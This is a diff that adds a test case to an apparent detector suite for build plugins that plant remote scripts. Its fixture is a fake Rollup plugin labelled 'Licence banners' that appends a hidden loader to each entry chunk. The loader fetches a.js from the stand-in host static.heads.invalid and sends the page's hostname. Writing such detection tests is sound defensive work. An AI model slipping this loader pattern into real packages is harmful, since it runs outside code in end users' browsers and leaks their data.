@@ -164,6 +164,16 @@ examine(plantsRemoteScript, {
       says: ['static.heads.invalid'],
     },
     {
+      when: 'what makes it is handed the address, and is put behind each chunk',
+      files: {
+        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
+        'index.js': `const origin = 'https://static.heads.invalid'; const MORE = \`;(function(d,u){var s=d.createElement("script");s.async=1;s.src=u+"/a.js?h="+location.hostname;d.head.appendChild(s)})(document,"\${origin}");\`; const decorate = (code, chunk) => chunk.name ? code + MORE : code;
+          export default () => ({ name: 'heads', renderChunk(code, chunk) { const body = chunk.isEntry ? decorate(code, chunk) : code; return { code: body, map: null }; }, generateBundle() {} });`,
+      },
+      weight: 'strong',
+      says: ['static.heads.invalid'],
+    },
+    {
       when: 'a module of somebody is asked for behind each chunk',
       files: {
         'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
